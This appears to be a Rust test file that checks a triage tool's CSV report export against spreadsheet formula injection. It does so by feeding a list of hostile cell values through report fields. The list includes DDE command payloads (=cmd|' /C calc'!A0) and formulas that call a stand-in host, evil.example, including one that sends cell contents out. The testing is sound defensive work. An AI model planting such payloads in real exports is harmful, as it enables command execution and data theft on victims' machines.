//! The table, read by a reader that is not ours.

use outlook_triage::report::csv::{COLUMNS, head, rows};

use super::{LANGS, report, values};

fn grid(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// What a spreadsheet takes for a formula, or begins a cell of its own with.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "+1",
    "+cmd|' /C calc'!A0",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u{3000}=1+1",
    "\u{a0}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "\"=1+1",
    "\"\"\"=1+1\"",
    "a\",=1+1,\"b",
    "a\",\"=1+1",
    "a,=1+1",
    ",=1+1",
    ";=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\r\n=1+1",
    "a\n=1+1",
    "'=1+1",
    "=\"",
    "=",
    "%0A=1+1",
];

#[track_caller]
fn assert_inert(text: &str, value: &str) {
    for cell in grid(text).iter().flatten() {
        let first = cell.trim_start().chars().next().unwrap_or('x');
        assert!(!"=+-@＝＋－＠".contains(first), "{value:?}: {cell:?}");
        assert!(!cell.chars().any(char::is_control), "{value:?}: {cell:?}");
    }
}

#[test]
fn a_hostile_value_changes_no_cell_but_its_own() {
    for lang in LANGS {
        let table = |value: &str| {
            let mut report = report(value, lang);
            // Alone, with nothing of ours before it.
            report.case.source = value.to_owned();
            report.findings[0].summary = value.to_owned();
            report.plan[1].title = value.to_owned();
            head() + &rows(&report, lang)
        };
        let harmless = grid(&table("HARMLESS"));
        let kinds = |grid: &[Vec<String>]| {
            grid.iter()
                .map(|row| (row.len(), row[0].clone(), row[3].clone(), row[4].clone(), row[7].clone()))
                .collect::<Vec<_>>()
        };
        assert_eq!(harmless[0], COLUMNS);
        assert_eq!(harmless.len(), 1 + 2 + 7 + 3, "a head, causes, steps, codes");
        for value in values().into_iter().chain(PAYLOADS.map(str::to_owned)) {
            let text = table(&value);
            assert_inert(&text, &value);
            assert_eq!(kinds(&grid(&text)), kinds(&harmless), "{value:?}\n{text}");
        }
    }
}

#[test]
fn cells_hold_what_the_report_says() {
    let lang = outlook_triage::lang::Lang::En;
    let report = report("a \"quoted\", value", lang);
    let grid = grid(&(head() + &rows(&report, lang)));
    let clear = grid.iter().find(|row| row[4] == "clear-credentials").unwrap();
    assert_eq!(clear[3..8], ["step", "clear-credentials", "2", "title a \"quoted\", value", "DO"]);
    assert!(clear[10].contains("cmdkey a \"quoted\", value.txt:14,19"), "{clear:?}");
    let stale = grid.iter().find(|row| row[4] == "stale-stored-password-office").unwrap();
    assert_eq!((&*stale[3], &*stale[7], &*stale[11]), ("finding", "likely", "clear-credentials"));
}
